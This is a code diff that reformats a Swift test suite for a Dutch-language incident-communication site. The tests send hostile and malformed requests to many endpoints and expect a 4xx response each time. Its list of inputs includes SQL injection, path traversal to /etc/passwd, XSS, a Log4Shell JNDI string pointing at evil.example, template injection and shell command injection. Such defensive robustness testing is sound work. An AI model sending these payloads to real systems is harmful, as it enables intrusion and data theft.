@@ -8,8 +8,10 @@ import Testing
 /// Requests that nobody sends in good faith. Each ends in a 4xx: never a crash, never our own error, never somebody else's page.
 struct HostileTests {
     private static let nasty = [
-        "' OR 1=1 --", "\"; DROP TABLE account; --", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%ff%fe", "<script>alert(1)</script>",
-        "${jndi:ldap://evil.example/a}", "{{7*7}}", "{{{frame.formToken}}}", "\u{202E}omgekeerd", "A\u{300}\u{301}\u{302}", "9223372036854775808", "-1",
+        "' OR 1=1 --", "\"; DROP TABLE account; --", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%ff%fe",
+        "<script>alert(1)</script>",
+        "${jndi:ldap://evil.example/a}", "{{7*7}}", "{{{frame.formToken}}}", "\u{202E}omgekeerd", "A\u{300}\u{301}\u{302}",
+        "9223372036854775808", "-1",
         "1e309", "NaN", "null", "true", "[]", "%25%32%65", "a\u{7F}b", "|cat /etc/passwd", "`id`", "$(id)", "\\\\evil.example\\x",
     ]
 
@@ -95,7 +97,8 @@ struct HostileTests {
             let places: [(path: String, field: String)] = [
                 ("/aanmelden", "gebruikersnaam"), ("/bronnen", "adres"), ("/incidenten/\(incident.id)/fase", "fase"),
                 ("/incidenten/\(incident.id)/leiding", "woordvoerder"), ("/incidenten/\(incident.id)/berichten", "soort"),
-                ("/incidenten/\(incident.id)/feiten", "onderwerp"), ("/incidenten/nieuw", "slachtoffers"), ("/beheer/gebruikers", "gebruikersnaam"),
+                ("/incidenten/\(incident.id)/feiten", "onderwerp"), ("/incidenten/nieuw", "slachtoffers"),
+                ("/beheer/gebruikers", "gebruikersnaam"),
                 ("/beheer/codes", "codes"), ("/mijn/codes/weg", "huidig"), ("/mijn/wachtwoord", "huidig"),
             ]
             let before = try await site.newsroom.log(of: incident.id).count
@@ -116,13 +119,17 @@ struct HostileTests {
             let token = try await site.token(.communicatieadviseur, .beheerder)
             let bodies =
                 [
-                    "", "{", "[]", "null", "1", "\"a\"", "{\"a\":}", "{\"text\":null}", "{\"text\":1,\"source\":2}", "{\"text\":[],\"source\":{}}",
+                    "", "{", "[]", "null", "1", "\"a\"", "{\"a\":}", "{\"text\":null}", "{\"text\":1,\"source\":2}",
+                    "{\"text\":[],\"source\":{}}",
                     String(repeating: "[", count: 5_000), "{\"text\":\"\\ud800\",\"source\":\"x\"}", "{\"text\":\"\",\"source\":\"\"}",
                     "{\"text\":\"x\",\"source\":\"y\",\"topic\":\"z\"}", "{\"text\":\"x\",\"source\":\"y\",\"extra\":1}",
                     "{\"text\":\"\(String(repeating: "a", count: 600_000))\"}", "\u{FEFF}{}", "{\"text\":\"a\\u0000b\",\"source\":\"x\"}",
                 ]
                 + Self.nasty.map { "{\"kind\":\"\($0)\"}" } + Self.nasty
-            for path in ["/incidents", "/incidents/\(incident.id)/facts", "/incidents/\(incident.id)/watches", "/incidents/\(incident.id)/messages", "/feeds"] {
+            for path in [
+                "/incidents", "/incidents/\(incident.id)/facts", "/incidents/\(incident.id)/watches", "/incidents/\(incident.id)/messages",
+                "/feeds",
+            ] {
                 for body in bodies {
                     let answer = try await site.call("POST", path, token: token, json: body)
                     #expect((400..<500).contains(answer.status), "\(path) \(body.prefix(60)): \(answer.status)")
